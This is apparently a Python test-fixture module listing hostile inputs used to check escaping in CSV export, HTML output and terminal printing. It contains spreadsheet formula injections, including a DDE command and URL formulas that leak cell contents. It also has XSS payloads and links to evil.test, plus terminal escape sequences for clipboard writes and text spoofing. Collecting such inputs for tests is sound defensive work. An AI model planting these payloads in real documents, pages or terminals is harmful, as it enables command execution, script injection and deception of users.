"""Texts of people as an attacker writes them: for spreadsheet programs, for browsers, for terminals."""

FORMULAS = {
    "equals": "=1+1", "plus": "+1+1", "minus": "-1+1", "at": "@SUM(A1)", "tab": "\t=1", "return": "\r=1",
    "line break": "\n=1", "full-width equals": "\uff1d1+1", "full-width plus": "\uff0b1", "full-width minus": "\uff0d1",
    "full-width at": "\uff20SUM(A1)", "small plus": "\ufe621", "small equals": "\ufe661", "minus sign": "\u22121",
    "space before": " =1+1", "no-break space before": "\u00a0=1", "zero-width space before": "\u200b=1",
    "byte order mark before": "\ufeff=1", "bidi mark before": "\u202e=1", "ideographic space before": "\u3000=1",
    "bell before": "\x07=1", "command": '=cmd|"/C calc"!A0', "link": '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    "import": '=IMPORTXML(CONCAT("http://127.0.0.1/",A1),"//a")', "quote to leave the cell": '","=1+1',
}
"""First cells of a formula; each must come out of a CSV reader with an apostrophe before it, or not begin one."""

MARKUP = {
    "script": "<script>alert(1)</script>", "attribute": '" onmouseover="alert(1)', "single quote": "' onload='alert(1)",
    "image": "<img src=x onerror=alert(1)>", "vector": "<svg/onload=alert(1)>", "end of style": "</style><script>1</script>",
    "end of title": "</title><script>1</script>", "comment": "--><script>1</script><!--", "frame": "<iframe src=//evil.test>",
    "address": "javascript:alert(1)", "template": "{{ 7 * 7 }}{% raw %}", "entity": "&lt;script&gt;&#x3c;",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.test">', "base": "<base href=//evil.test>",
    "form": "<form action=//evil.test><input>", "data of the page": "]]><script>1</script>", "split tag": "<scr\0ipt>1</script>",
    "UTF-7": "+ADw-script+AD4-", "turned reading": "\u202e<b>\u2066", "overlong name": "<b>" * 400,
}
"""Names that would become a part of a page."""

STEERING = {
    "colours": "\x1b[31mred\x1b[0m", "clear screen": "\x1b[2J\x1b[H", "window title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.test\x1b\\x\x1b]8;;\x1b\\", "clipboard": "\x1b]52;c;ZWNobw==\x07", "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d0;owned\x9c", "answer back": "\x05", "report": "\x1b[6n", "device control": "\x1bP$q\x1b\\", "bell": "\x07",
    "back over it": "safe\x08\x08\x08\x08evil", "return over it": "safe\revil", "form feed": "\x0c", "NUL": "a\0b",
    "reading direction": "\u202egnp.exe\u202c", "isolate": "\u2066\u2069", "zero-width": "a\u200b\u200d\u2060b",
    "line separator": "a\u2028b\u2029c", "tags": "\U000e0041\U000e0042", "half a pair": "a\ud800b", "soft hyphen": "a\u00adb",
    "markup of the table": "[link=http://evil.test]x[/link][red]", "alternate character set": "\x0e\x0f\x1b(0",
}
"""Names that a terminal would obey."""
